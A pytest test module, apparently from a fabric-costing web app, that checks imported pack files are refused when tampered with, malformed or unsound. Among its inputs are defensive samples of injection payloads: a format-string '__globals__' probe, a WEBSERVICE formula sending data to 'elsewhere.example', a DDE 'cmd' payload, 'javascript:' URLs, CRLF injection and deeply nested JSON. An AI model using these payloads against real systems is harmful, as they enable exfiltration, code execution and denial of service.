"""Packs from elsewhere: what is not exactly what was exported is refused, and never a 500."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from dataclasses import replace
from functools import cache
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import Engine
from starlette.testclient import TestClient

from server.actions.pack_exchange import FILE_FORM, pack_file, take_in
from server.actions.packs import ClothAsked, stored_pack
from server.core.buyer_view import OPEN_BOOK, for_buyer
from server.core.errors import CreelbookError
from server.core.given import Frozen
from server.store.packs import PACKS, content_of
from tests.core.test_again import frozen_demo
from tests.entered import counts
from tests.web.meetings import frozen_pack
from tests.web.test_packs import shown_text

Document = dict[str, Any]


@cache
def made() -> bytes:
    """A file as another house exports it: two constructions, under a reference free here."""
    frozen = frozen_demo("DN-1375", "DN-1250")
    pack = replace(frozen.pack, reference="2026-03-12-elsewhere-0001")
    content = content_of(Frozen(pack, frozen.given))
    document: Document = {
        "form": FILE_FORM,
        "words": "Good morning",
        "shown": ["weight"],
        "follows": "",
        "basis_name": "",
        "basis_changes": {"meeting": "2026-03-12"},
        "cloths": [
            {"code": "DN-1375", "variant": "", "pairs": ["Q14/Q14"]},
            {"code": "DN-1250", "variant": "", "pairs": []},
        ],
        "pack": content.pack,
        "given": content.given,
    }
    return sealed(document)


@pytest.fixture
def exported() -> bytes:
    return made()


def test_the_file_of_these_tests_is_like_an_exported_one(house_engine: Engine) -> None:
    reference = frozen_pack(house_engine, "Spring denim", ("DN-1375", ClothAsked("DN-1250")))
    exported = json.loads(pack_file(house_engine, reference))
    like = json.loads(made())
    assert exported.keys() == {*like, "digest"}
    assert json.loads(exported["pack"]).keys() == json.loads(like["pack"]).keys()
    assert json.loads(exported["given"]).keys() == json.loads(like["given"]).keys()


def sealed(document: Document, pack: Any = None, given: Any = None) -> bytes:
    """A file with other contents and the digest of these."""
    for name, content in (("pack", pack), ("given", given)):
        if content is not None:
            document[name] = content if isinstance(content, str) else json.dumps(content)
    text = f"{document['pack']}\n{document['given']}".encode("utf-8", "surrogatepass")
    document["digest"] = hashlib.sha256(text).hexdigest()
    return json.dumps(document).encode()


def send(client: TestClient, content: bytes) -> Any:
    return client.post(
        "/meetings/take-in",
        files={"file": ("a.pack.json", content, "application/json")},
        follow_redirects=False,
    )


def refuse(client: TestClient, engine: Engine, content: bytes, told: str = "") -> None:
    """Neither the page nor the API takes it; no table moves."""
    seen = counts(engine)
    answer = send(client, content)
    assert answer.status_code == 422, (answer.status_code, answer.headers.get("location"))
    assert told in shown_text(answer.text), shown_text(answer.text)[-800:]
    assert counts(engine) == seen
    through_api = client.post(
        "/api/v1/meetings/take-in", content=content, headers={"content-type": "application/json"}
    )
    assert through_api.status_code in (400, 413, 422), through_api.status_code
    assert {"message", "field", "remedy"} <= set(through_api.json())
    assert counts(engine) == seen


def test_a_file_comes_in_and_every_page_of_it_opens(
    client: TestClient, house_engine: Engine, exported: bytes
) -> None:
    answer = send(client, exported)
    assert answer.status_code == 303, shown_text(answer.text)[-600:]
    path = answer.headers["location"].partition("?")[0]
    assert path == "/meetings/2026-03-12-elsewhere-0001"
    for each in (
        "",
        ".json",
        ".csv",
        "/again",
        "/pack",
        "/files/workbook.xlsx",
        "/pairs/1/Q14/Q14",
    ):
        assert client.get(f"{path}{each}").status_code == 200
    refuse(client, house_engine, exported, "already")


WRONG_FILES: dict[str, Callable[[bytes], bytes]] = {
    "nothing but a brace": lambda _: b"{",
    "no text": lambda _: b"\xff\xfe\x00\x01",
    "a list": lambda _: b"[]",
    "a number": lambda _: b"1e400",
    "not a number": lambda _: b"NaN",
    "another document": lambda _: b'{"form": "other", "pack": "{}"}',
    "only the form": lambda _: b'{"form": "creelbook meeting pack 1"}',
    "cut short": lambda content: content[: len(content) // 2],
    "cut by a byte": lambda content: content[:-1],
    "a figure altered": lambda content: content.replace(b"0.03", b"0.04", 1),
    "a letter altered": lambda content: content.replace(b"Larkspur", b"Larkspvr", 1),
    "a wrong digest": lambda content: content.replace(
        json.loads(content)["digest"].encode(), b"0" * 64
    ),
    "an empty digest": lambda content: content.replace(json.loads(content)["digest"].encode(), b""),
    "deep as a well": lambda _: b"[" * 100_000 + b"]" * 100_000,
    "deep objects": lambda _: b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "a workbook": lambda _: b"PK\x03\x04" + b"\0" * 200,
}


@pytest.mark.parametrize("wrong", WRONG_FILES.values(), ids=WRONG_FILES)
def test_a_file_that_is_not_what_was_exported_is_refused(
    client: TestClient, house_engine: Engine, exported: bytes, wrong: Callable[[bytes], bytes]
) -> None:
    content = wrong(exported)
    assert content != exported
    refuse(client, house_engine, content)


def test_no_file_at_all_is_told(client: TestClient, house_engine: Engine) -> None:
    seen = counts(house_engine)
    for answer in (
        client.post("/meetings/take-in"),
        client.post("/meetings/take-in", data={"file": "text"}),
        send(client, b""),
    ):
        assert answer.status_code == 422
        assert "No file was sent" in answer.text
    assert counts(house_engine) == seen


PARTS: dict[str, Any] = {
    "digest": [None, 5, [], ""],
    "words": [None, 5, ["a"], "x" * 4001, "a\0b", "\ud800"],
    "shown": [None, "weight", {"weight": 1}, ["weight", 5], ["margin"], ["price", "cost"], [["a"]]],
    "follows": [None, 5, ["a"], "a\0b", "\ud800"],
    "basis_name": [None, 5, {}, "a\0b", "\udfff"],
    "basis_changes": [None, [], "x", {"currency": 5}, {"currency": None}, {"a": "\0"}, {"\0": "a"}],
    "cloths": [None, {}, "x", 5, [5], [None], [["a"]], [{"code": "A"}],
               [{"code": 5, "variant": "", "pairs": []}],
               [{"code": "A", "variant": None, "pairs": []}],
               [{"code": "A", "variant": "", "pairs": "Q1"}],
               [{"code": "A", "variant": "", "pairs": [5]}],
               [{"code": "A\0", "variant": "", "pairs": []}],
               [{"code": "A", "variant": "", "pairs": ["\ud800"]}],
               [{"code": f"A{n}", "variant": "", "pairs": []} for n in range(201)]],
    "pack": [None, {}, 5, "", "null", "[]", "{}", "NaN", "\ud800", "{" * 5000],
    "given": [None, {}, 5, "", "null", "[]", "{}", "1", "\0"],
    "form": [None, 5, [], "creelbook meeting pack 2"],
}  # fmt: skip


@pytest.mark.parametrize("name", PARTS)
def test_every_part_of_a_file_is_looked_at(
    client: TestClient, house_engine: Engine, exported: bytes, name: str
) -> None:
    for wrong in PARTS[name]:
        document = json.loads(exported) | {name: wrong}
        both = isinstance(document["pack"], str) and isinstance(document["given"], str)
        refuse(
            client,
            house_engine,
            sealed(document) if both and name != "digest" else json.dumps(document).encode(),
        )
    document = json.loads(exported)
    del document[name]
    refuse(client, house_engine, json.dumps(document).encode())


def within(pack: Document, path: str, value: Any) -> Document:
    *steps, last = path.split(".")
    at: Any = pack
    for step in steps:
        at = at[int(step)] if isinstance(at, list) else at[step]
    at[int(last) if isinstance(at, list) else last] = value
    return pack


FIRST = "cloths.0.pairs.0"
INSIDE: list[tuple[str, Any]] = [
    (f"{FIRST}.sheet", 99_999), (f"{FIRST}.sheet", -1), (f"{FIRST}.sheet", 10**40),
    (f"{FIRST}.sheet", 0.5), (f"{FIRST}.sheet", "x"), (f"{FIRST}.sheet", None),
    (f"{FIRST}.inputs.0", 99_999), (f"{FIRST}.inputs.0", -1), (f"{FIRST}.inputs", []),
    (f"{FIRST}.figures", []), (f"{FIRST}.figures.0", 1e308), (f"{FIRST}.figures.0", None),
    (f"{FIRST}.figures.0", float("nan")), (f"{FIRST}.figures.0", float("inf")),
    (f"{FIRST}.figures.0", [1]), (f"{FIRST}.figures.0", 10**400), (f"{FIRST}.key", ""),
    (f"{FIRST}.yarns", []), (f"{FIRST}.yarns", None), (f"{FIRST}.yarns.0.ne", float("inf")),
    ("sheets.0.lines.0", 99_999), ("sheets.0.lines.0", -5), ("sheets.0.inputs.0", "gone"),
    ("sheets", []), ("lines", []), ("inputs", []), ("formulas", {}), ("lines.0.formula", "gone"),
    ("lines.0.feeds", []), ("lines.0.feeds", [["a", "b"]]), ("inputs.0.value", float("-inf")),
    ("inputs.0.where", "//elsewhere.example"), ("inputs.0.where", "javascript:alert(1)"),
    ("reference", "put"), ("reference", ""), ("reference", "x" * 61), ("reference", "a\r\nb: c"),
    ("reference", "2026-03-12-Ä"), ("reference", "2026-03-12" + "-a" * 40),
    ("title", ""), ("title", "x" * 201), ("title", "a\0b"), ("title", None),
    ("buyer", "x" * 201), ("buyer", "a\u202eb"), ("notes", "x" * 4001), ("notes", "a\x1b"),
    ("view", "buyer"), ("headline", "margin_on_price"), ("made_at", None), ("made_at", "soon"),
    ("made_at", "2026-03-11T18:30:00"), ("made_at", 1e30), ("meeting", "soon"), ("meeting", None),
    ("basis.currency", ""), ("basis.currency", "<b>"), ("basis.metres", float("nan")),
    ("basis", None), ("cloths.0.cells", [[], []]), ("cloths.0.ladder", ["gone"]),
    ("cloths.0.pair_count", 10**80), ("cloths", {}), ("cloths.0", None),
    ("cloths.0.pairs", "x"), ("engine", 5),
]  # fmt: skip


@pytest.mark.parametrize(("path", "value"), INSIDE, ids=[f"{p}={v!r}"[:60] for p, v in INSIDE])
def test_a_well_formed_file_with_its_right_digest_that_is_not_sound_is_refused(
    client: TestClient, house_engine: Engine, exported: bytes, path: str, value: Any
) -> None:
    document = json.loads(exported)
    pack = within(json.loads(document["pack"]), path, value)
    refuse(client, house_engine, sealed(document, pack))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("words", "{per_metre.__class__.__init__.__globals__}"),
        ("words", "{per_metre:>900000000}"),
        ("words", "{unknown}"),
        ("words", "{"),
        ("cells", 'WEBSERVICE("http://elsewhere.example/"&{per_metre})'),
        ("cells", "cmd|'/C calc'!A0"),
        ("cells", "{per_metre.real}"),
    ],
)
def test_a_formula_from_elsewhere_can_only_count(
    client: TestClient, house_engine: Engine, exported: bytes, name: str, text: str
) -> None:
    document = json.loads(exported)
    pack = json.loads(document["pack"])
    for formula in pack["formulas"].values():
        formula[name] = text
    refuse(client, house_engine, sealed(document, pack), "cannot be relied on")


def test_the_view_of_a_buyer_cannot_come_back_as_a_pack(
    client: TestClient, house_engine: Engine, exported: bytes
) -> None:
    document = json.loads(exported)
    pack = PACKS.validate_json(document["pack"])
    buyers = PACKS.dump_json(for_buyer(pack, OPEN_BOOK)).decode()
    refuse(client, house_engine, sealed(document, buyers), "internal view")


GIVEN_BROKEN: dict[str, Callable[[Document], Document]] = {
    "no offers": lambda given: given | {"offers": []},
    "no constructions": lambda given: given | {"constructions": []},
    "no lanes": lambda given: within(given, "rates.lanes", []),
    "no exchange rates": lambda given: within(given, "rates.exchange_rates", []),
    "no assumptions": lambda given: within(given, "assumptions.values", {}),
    "no slots": lambda given: within(given, "constructions.0.slots", []),
    "no picks": lambda given: within(given, "constructions.0.loom_ppi", 0.0),
    "no width": lambda given: within(given, "constructions.0.finished_width_in", 0.0),
    "picks without end": lambda given: within(given, "constructions.0.loom_ppi", 1e308),
    "an unknown weave": lambda given: within(given, "constructions.0.weave", "of the moon"),
    "an unknown term": lambda given: within(given, "offers.0.term", "XXX"),
    "an unknown unit": lambda given: within(given, "offers.0.price_unit", "stone"),
    "an unknown payment": lambda given: within(given, "offers.0.payment", "shells"),
    "a price of nothing": lambda given: within(given, "offers.0.price", "0"),
    "a price without end": lambda given: within(given, "offers.0.price", "1e400"),
    "a price that is none": lambda given: within(given, "offers.0.price", "NaN"),
    "an unknown count system": lambda given: within(given, "offers.0.yarn.count_system", "Xx"),
    "a count of nothing": lambda given: within(given, "offers.0.yarn.count", "0"),
    "an unknown spinning": lambda given: within(given, "offers.0.yarn.spinning", "by hand"),
    "an unknown currency": lambda given: within(given, "basis.currency", "ZZZ"),
    "an unknown loom rule": lambda given: within(given, "basis.loom_rule", "by feel"),
    "an unknown quantity": lambda given: within(given, "basis.quantity", "plenty"),
}


@pytest.mark.parametrize("broken", GIVEN_BROKEN.values(), ids=GIVEN_BROKEN)
def test_records_that_nothing_can_be_made_from_are_refused_or_told(
    client: TestClient,
    house_engine: Engine,
    exported: bytes,
    broken: Callable[[Document], Document],
) -> None:
    """The figures of the pack stand by themselves; computing them again says what is wrong."""
    document = json.loads(exported)
    content = sealed(document, given=broken(json.loads(document["given"])))
    answer = send(client, content)
    if answer.status_code == 422:
        return
    assert answer.status_code == 303
    path = answer.headers["location"].partition("?")[0]
    for each in ("", ".json", "/pairs/1/Q14/Q14", "/buyer", "/files/workbook.xlsx", "/pack"):
        assert client.get(f"{path}{each}").status_code == 200
    again = client.get(f"{path}/again")
    assert again.status_code == 200
    assert "other numbers" in again.text or "the same numbers" in again.text


LEAVES: st.SearchStrategy[Any] = st.sampled_from(
    [None, "", "x", "2026-03-12", -1, 0, 1, 10**9, 10**40, 0.5, 1e308, float("nan"), float("inf"),
     True, [], {}, [[]], "\0", "<b>", "{x}", "{x.y}"]
)  # fmt: skip


@settings(
    max_examples=120, deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)  # fmt: skip
@given(data=st.data(), value=LEAVES)
def test_anything_anywhere_in_a_file_is_refused_or_shows(
    client: TestClient, house_engine: Engine, exported: bytes, data: st.DataObject, value: Any
) -> None:
    document = json.loads(exported)
    part = data.draw(st.sampled_from(("pack", "given")))
    content = json.loads(document[part])
    at: Any = content
    while True:
        step = data.draw(
            st.integers(0, len(at) - 1) if isinstance(at, list) else st.sampled_from(sorted(at))
        )
        deeper = at[step]
        if isinstance(deeper, (dict, list)) and deeper and data.draw(st.integers(0, 5)):
            at = deeper
            continue
        at[step] = value
        break
    sent = sealed(document, **{part: content})
    seen = counts(house_engine)
    try:
        reference = take_in(house_engine, sent, 1)
    except CreelbookError as wrong:
        assert wrong.field  # noqa: PT017
        assert counts(house_engine) == seen
        return
    path = f"/meetings/{reference}"
    try:
        for each in ("", ".json", ".csv", "/again", "/buyer", "/files/workbook.xlsx"):
            assert client.get(f"{path}{each}").status_code == 200, each
        for cloth in client.get(f"{path}.json").json()["cloths"][:1]:
            for pair in cloth["pairs"][:1]:
                opened = client.get(f"{path}/pairs/1/{quote(pair['key'])}")
                assert opened.status_code in (200, 404)
    finally:
        _forget(house_engine, reference)


def _forget(engine: Engine, reference: str) -> None:
    """Take a pack away past the program, so that the same reference is free again."""
    number = stored_pack(engine, reference).id
    with engine.begin() as database:
        for table in ("pack_content", "pack_cloth"):
            database.exec_driver_sql(f"DELETE FROM {table} WHERE pack_id = {number}")  # noqa: S608
        database.exec_driver_sql(f"DELETE FROM meeting_pack WHERE id = {number}")  # noqa: S608
